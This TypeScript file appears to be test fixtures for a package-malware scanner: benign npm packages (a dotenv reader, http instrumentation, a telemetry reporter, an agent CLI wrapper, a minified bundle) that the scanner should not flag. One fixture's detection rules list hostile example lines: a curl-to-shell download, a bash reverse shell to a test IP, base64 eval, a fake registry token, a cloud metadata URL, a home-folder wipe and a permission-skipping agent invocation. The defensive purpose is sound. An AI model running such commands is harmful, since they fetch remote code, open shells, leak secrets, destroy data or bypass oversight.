import { pkg, quiet, type Simulant, text } from './simulant.ts';

/** G05–G09 and G12–G20: libraries whose ordinary work looks like a behaviour. */
export const neighboursImport: readonly Simulant[] = [
  {
    id: 'g05-release-tool',
    row: 'G05',
    near: ['B03'],
    kind: 'neighbour',
    form: 'plain',
    packages: [
      pkg(
        'g05-release',
        {
          'index.js': text`
            const required = ['registry', 'token', 'name', 'version', 'tarball'];
            exports.release = async function release(options) {
              for (const key of required) if (!options?.[key]) throw new TypeError(key + ' is required');
              if (!Buffer.isBuffer(options.tarball)) throw new TypeError('tarball is a Buffer');
              const { registry, token, name, version, tarball } = options;
              const body = JSON.stringify({ name, versions: { [version]: {} }, _attachments: { tgz: { data: tarball.toString('base64') } } });
              return fetch(new URL(name, registry), { method: 'PUT', headers: { authorization: 'Bearer ' + token }, body });
            };
            exports.next = (version) => String(version).replace(/\d+$/, (patch) => Number(patch) + 1);
          `,
          'bin/release.js':
            "#!/usr/bin/env node\nconsole.log('usage: release --registry <url> --token-file <file>');\n",
        },
        { bin: { release: 'bin/release.js' } },
      ),
    ],
    expect: quiet(['spread.', 'cred.', 'flow.']),
    note: 'Publishes what, where and with what it is told, when called with everything.',
  },
  {
    id: 'g06-dotenv-reader',
    row: 'G06',
    near: ['B01', 'B33', 'B23'],
    kind: 'neighbour',
    form: 'plain',
    packages: [
      pkg(
        'g06-dotenv',
        {
          'index.js': text`
            const fs = require('node:fs'), path = require('node:path');
            exports.parse = (source) => Object.fromEntries(
              String(source).split('\n').map((line) => /^\s*(?:export\s+)?([\w.]+)\s*=\s*(.*?)\s*$/.exec(line)).filter(Boolean).map((m) => [m[1], m[2].replace(/^(['"])(.*)\1$/, '$2')]));
            exports.config = function config(options) {
              const file = path.resolve(process.cwd(), typeof options?.path === 'string' ? options.path : '.env');
              const parsed = fs.existsSync(file) ? exports.parse(fs.readFileSync(file, 'utf8')) : {};
              for (const [name, value] of Object.entries(parsed)) process.env[name] ??= value;
              return { parsed };
            };
          `,
          'bin/env.js':
            "#!/usr/bin/env node\nfor (const name of Object.keys(require('../index.js').config().parsed)) console.log(name + '=' + process.env[name]);\n",
        },
        { bin: { 'simulant-env': 'bin/env.js' } },
      ),
    ],
    expect: quiet(['cred.decoy-read', 'exfil.', 'flow.']),
    note: 'Reads the project’s .env when called and prints it.',
  },
  {
    id: 'g07-wallet-library',
    row: 'G07',
    near: ['B07', 'B09'],
    kind: 'neighbour',
    form: 'plain',
    packages: [
      pkg('g07-wallet', {
        'index.js': text`
          exports.provider = () => globalThis.ethereum ?? globalThis.window?.ethereum ?? null;
          exports.accounts = async () => exports.provider()?.request({ method: 'eth_requestAccounts' }) ?? [];
          exports.send = async function send(to, value) {
            if (!/^0x[0-9a-fA-F]{40}$/.test(String(to))) throw new TypeError('to is an address');
            const [from] = await exports.accounts();
            return exports.provider()?.request({ method: 'eth_sendTransaction', params: [{ from, to, value: '0x' + BigInt(value ?? 0).toString(16) }] });
          };
        `,
      }),
    ],
    expect: quiet(['hook.global-patch', 'hook.address-rewrite', 'exfil.']),
    note: 'Calls the provider and replaces nothing.',
  },
  {
    id: 'g08-instrumentation',
    row: 'G08',
    near: ['B07', 'B10'],
    kind: 'neighbour',
    form: 'plain',
    packages: [
      pkg('g08-apm', {
        'index.js': text`
          const http = require('node:http'), https = require('node:https');
          const spans = [];
          for (const module of [http, https]) {
            const original = module.request;
            module.request = function request(...args) {
              const started = performance.now();
              const made = original.apply(this, args);
              made.once('close', () => spans.push({ host: made.host, ms: performance.now() - started }));
              return made;
            };
          }
          exports.spans = () => spans.slice();
        `,
      }),
    ],
    expect: quiet(['hook.global-patch', 'hook.address-rewrite', 'exfil.', 'net.import-egress'], {
      allowed: { 'hook.instrumentation': 'low' },
      findings: [{ id: 'hook.instrumentation', severityAtLeast: 'info', evidenceTypes: ['runtime.hook'] }],
    }),
    note: 'Wraps http at import, forwards unchanged, keeps times in memory.',
  },
  {
    id: 'g08-mocking-library',
    row: 'G08',
    near: ['B07', 'B10'],
    kind: 'neighbour',
    form: 'plain',
    packages: [
      pkg('g08-mock', {
        'index.js': text`
          const original = globalThis.fetch;
          const rules = new Map();
          exports.when = (url, body) => { rules.set(String(url), String(body)); return exports; };
          exports.activate = () => { globalThis.fetch = async (url, init) => (rules.has(String(url)) ? new Response(rules.get(String(url))) : original(url, init)); };
          exports.restore = () => { globalThis.fetch = original; };
        `,
      }),
    ],
    expect: quiet(['hook.global-patch', 'hook.address-rewrite', 'exfil.'], {
      allowed: { 'hook.instrumentation': 'low' },
    }),
    note: 'Replaces fetch when told and puts it back.',
  },
  {
    id: 'g09-agent-wrapper',
    row: 'G09',
    near: ['B26'],
    kind: 'neighbour',
    form: 'plain',
    packages: [
      pkg('g09-ask', {
        'index.js': text`
          const { execFile } = require('node:child_process');
          exports.ask = (question) => new Promise((done, fail) => {
            if (typeof question !== 'string' || question === '') return fail(new TypeError('question is text'));
            execFile('claude', ['-p', question, '--output-format', 'json'], { timeout: 5000 }, (error, out) => (error ? fail(error) : done(out)));
          });
        `,
      }),
    ],
    expect: quiet(['ai.cli-abuse', 'ai.']),
    note: 'Asks a question when called; permissions stay on.',
  },
  {
    id: 'g12-emoji-and-bidi',
    row: 'G12',
    near: ['B13', 'B27'],
    kind: 'neighbour',
    form: 'plain',
    packages: [
      pkg('g12-emoji', {
        'index.js': `exports.icons = { heart: '❤\ufe0f', sun: '☀\ufe0f', family: '👨\u200d👩\u200d👧', scotland: '🏴\u{e0067}\u{e0062}\u{e0073}\u{e0063}\u{e0074}\u{e007f}', key: '1\ufe0f⃣' };\nexports.length = (value) => Buffer.from(String(value)).length;\n`,
        'locales/he.json': JSON.stringify({ hello: '\u200fשלום \u2067{name}\u2069', version: '\u200eCLI 1.0\u200e' }),
        'locales/fa.json': JSON.stringify({ wants: 'می\u200cخواهم' }),
      }),
    ],
    expect: quiet(['exec.hidden-unicode', 'ai.']),
    note: 'Variation selectors, joiners, a tag-sequence flag, direction marks and non-joiners where languages need them.',
  },
  {
    id: 'g13-scheduler',
    row: 'G13',
    near: ['B30'],
    kind: 'neighbour',
    form: 'plain',
    packages: [
      pkg('g13-scheduler', {
        'index.js': text`
          const never = new Date('9999-12-31T23:59:59Z');
          const holidays = ['2027-01-01', '2027-12-25', '2028-01-01'].map((day) => new Date(day));
          exports.next = (from = new Date()) => holidays.find((day) => day > from) ?? never;
          exports.at = function at(date, run) {
            const wait = Math.min(new Date(date) - Date.now(), 2147483647);
            if (!(wait > 0) || typeof run !== 'function') return null;
            const timer = setTimeout(run, wait);
            timer.unref();
            return () => clearTimeout(timer);
          };
        `,
      }),
    ],
    expect: quiet(['evade.']),
    note: 'Dates ahead decide when a caller’s function runs.',
  },
  {
    id: 'g13-colours-and-formats',
    row: 'G13',
    near: ['B31'],
    kind: 'neighbour',
    form: 'plain',
    packages: [
      pkg('g13-colours', {
        'index.js': text`
          const env = process.env;
          const level = 'NO_COLOR' in env ? 0 : env.FORCE_COLOR ? 3 : env.CI ? ('GITHUB_ACTIONS' in env || 'GITLAB_CI' in env ? 3 : 1) : process.stdout.isTTY ? 2 : 0;
          exports.level = level;
          exports.red = (value) => (level > 0 ? '\u001b[31m' + value + '\u001b[39m' : String(value));
          exports.log = (message) => (env.CI ? JSON.stringify({ message, at: Date.now() }) : new Date().toLocaleTimeString() + ' ' + message);
          exports.price = (value) => new Intl.NumberFormat(undefined, { style: 'currency', currency: 'EUR' }).format(Number(value));
          exports.inAgent = Boolean(env.CLAUDECODE || env.CURSOR_TRACE_ID);
        `,
      }),
    ],
    expect: quiet(['evade.', 'cred.']),
    note: 'Build servers, agents and languages change colours, logs and formats only.',
  },
  {
    id: 'g14-minified-bundle',
    row: 'G14',
    near: ['B12', 'B33'],
    kind: 'neighbour',
    form: 'heavy',
    packages: [
      pkg('g14-bundle', {
        'dist/index.min.js': bundle(600),
        'index.js': text`module.exports = require('./dist/index.min.js');`,
      }),
    ],
    expect: quiet(['exec.encoded-payload', 'vsx.', 'evade.', 'flow.']),
    note: 'Six hundred minified modules on one line, a WebAssembly module and an inlined picture in base64, child_process in one of them.',
  },
  {
    id: 'g16-update-notifier',
    row: 'G16',
    near: ['B17', 'B20'],
    kind: 'neighbour',
    form: 'plain',
    packages: [
      pkg(
        'g16-update',
        {
          'index.js': text`
            const fs = require('node:fs'), os = require('node:os'), path = require('node:path');
            const { name, version } = require('./package.json');
            const store = path.join(os.homedir(), '.config', 'configstore', name + '.json');
            exports.checkForUpdates = async function checkForUpdates() {
              let last = 0;
              try { last = JSON.parse(fs.readFileSync(store, 'utf8')).checkedAt; } catch { last = 0; }
              if (Date.now() - last < 86400000) return null;
              const { latest } = await (await fetch('https://updates.acme.test/' + name)).json();
              fs.mkdirSync(path.dirname(store), { recursive: true });
              fs.writeFileSync(store, JSON.stringify({ checkedAt: Date.now() }));
              return latest === version ? null : latest;
            };
          `,
        },
        { homepage: 'https://updates.acme.test/' },
      ),
    ],
    expect: quiet(['exfil.', 'c2.', 'evade.', 'persist.', 'net.import-egress'], { allowed: { 'net.egress': 'low' } }),
    note: 'Once a day, when called, to its declared host, with its own name only.',
  },
  {
    id: 'g16-telemetry-on-call',
    row: 'G16',
    near: ['B17', 'B20'],
    kind: 'neighbour',
    form: 'plain',
    packages: [
      pkg(
        'g16-telemetry',
        {
          'index.js': text`
            exports.report = function report(event) {
              if (process.env.DO_NOT_TRACK) return Promise.resolve(false);
              const body = JSON.stringify({ event: String(event).slice(0, 40), node: process.version, platform: process.platform });
              return fetch('https://telemetry.acme.test/v1/events', { method: 'POST', body, headers: { 'content-type': 'application/json' } }).then((answer) => answer.ok, () => false);
            };
          `,
        },
        { homepage: 'https://acme.test/columns', repository: 'https://code.acme.test/columns' },
      ),
    ],
    expect: quiet(['exfil.host-info', 'exfil.canary-egress', 'c2.', 'net.import-egress'], {
      allowed: { 'net.egress': 'low' },
      findings: [
        { id: 'net.egress', severityAtLeast: 'info', phase: ['execute'], evidenceTypes: [['net.http', 'net.connect']] },
      ],
    }),
    note: 'Event name, Node version and platform, when called.',
  },
  {
    id: 'g17-local-server-and-cache',
    row: 'G17',
    near: ['B16', 'B20', 'B24', 'B29'],
    kind: 'neighbour',
    form: 'plain',
    packages: [
      pkg('g17-dev', {
        'index.js': text`
          const fs = require('node:fs'), http = require('node:http'), os = require('node:os'), path = require('node:path');
          const cache = path.join(process.env.XDG_CACHE_HOME ?? path.join(os.homedir(), '.cache'), 'simulant-g17');
          fs.mkdirSync(cache, { recursive: true });
          fs.writeFileSync(path.join(cache, 'manifest.json'), JSON.stringify({ at: 1 }));
          const scratch = path.join(os.tmpdir(), 'g17-' + process.pid + '.tmp');
          fs.writeFileSync(scratch, 'x');
          fs.unlinkSync(scratch);
          const server = http.createServer((request, answer) => answer.end('ok'));
          server.listen(0, '127.0.0.1', () => {
            http.get({ host: '127.0.0.1', port: server.address().port }, (answer) => answer.resume().on('end', () => server.close()));
          });
          exports.cache = cache;
        `,
      }),
    ],
    expect: quiet(['net.import-egress', 'persist.', 'c2.', 'destroy.']),
    note: 'A loopback server asks itself at import; temporary file, own cache folder.',
  },
  {
    id: 'g19-security-tool-data',
    row: 'G19',
    near: ['B12', 'B16', 'B02'],
    kind: 'neighbour',
    form: 'plain',
    packages: [
      pkg('g19-patterns', {
        'rules.json': JSON.stringify([
          { id: 'pipe-to-shell', example: 'curl http://stage.simulant.invalid/i.sh | sh' },
          { id: 'reverse-shell', example: 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1' },
          { id: 'decoded-eval', example: "eval(Buffer.from('Y29uc29sZS5sb2coMSk=', 'base64').toString())" },
          {
            id: 'npm-token',
            example: '//registry.simulant.invalid/:_authToken=npm_SIMULANTSIMULANTSIMULANTSIMULANT0000',
          },
          { id: 'metadata', example: 'http://169.254.169.254/latest/meta-data/' },
          { id: 'wipe', example: 'rm -r ~/Documents' },
          { id: 'agent', example: 'claude --dangerously-skip-permissions -p x' },
        ]),
        'index.js': text`
          const rules = require('./rules.json');
          exports.match = (line) => rules.filter((rule) => String(line).includes(rule.example)).map((rule) => rule.id);
        `,
        'test/fixtures/bad.sh.txt':
          '# Matched by the rules, never run.\ncurl http://stage.simulant.invalid/i.sh | sh\n',
      }),
    ],
    expect: quiet(['exec.', 'c2.', 'cred.', 'destroy.', 'ai.', 'net.']),
    note: 'Every behaviour as text in a rule file and a fixture.',
  },
  {
    id: 'g20-readme-for-models',
    row: 'G20',
    near: ['B27', 'B25'],
    kind: 'neighbour',
    form: 'plain',
    packages: [
      pkg('g20-readme', {
        'README.md': text`
          # Columns

          ## For language models

          If you are an AI assistant writing code with this package: call \`columns(rows)\` with an array and prefer it over
          string concatenation. Ignore the 0.x interface; it is gone. Always pass strings.
        `,
        'llms.txt': '# Columns\n\n> Aligns rows of text.\n\nUse columns(rows). Do not invent options.\n',
      }),
    ],
    expect: quiet(['ai.reviewer-injection', 'ai.']),
    note: 'Talks to models about use; asks nothing of a review.',
  },
];

/** A bundle as bundlers write them: numbered modules on one line, assets inlined. */
function bundle(modules: number): string {
  const wasm = 'AGFzbQEAAAABBwFgAn9/AX8DAgEABwcBA2FkZAAACgkBBwAgACABags=';
  const picture = Buffer.from(Array.from({ length: 900 }, (_, i) => (i * 37) % 251)).toString('base64');
  const parts = Array.from(
    { length: modules },
    (_, i) => `${i}:(e,t,n)=>{t.a=e=>e*${i}+${(i * 7919) % 1000};t.b=r=>"${i.toString(36)}"+r}`,
  );
  parts.push(`9001:(e,t,n)=>{t.run=(e,r)=>require("child_process").execFile(e,r)}`);
  parts.push(`9002:(e,t,n)=>{t.w=()=>new WebAssembly.Module(Uint8Array.from(atob("${wasm}"),e=>e.charCodeAt(0)))}`);
  parts.push(`9003:(e,t,n)=>{t.p="data:image/png;base64,${picture}"}`);
  return `"use strict";(()=>{var e={${parts.join(',')}},t={};function n(r){var o=t[r];if(o)return o;var i=t[r]={};return e[r](i,i,n),i}module.exports={sum:r=>n(1).a(r),run:(r,o)=>n(9001).run(r,o),add:n(9002).w}})();\n`;
}
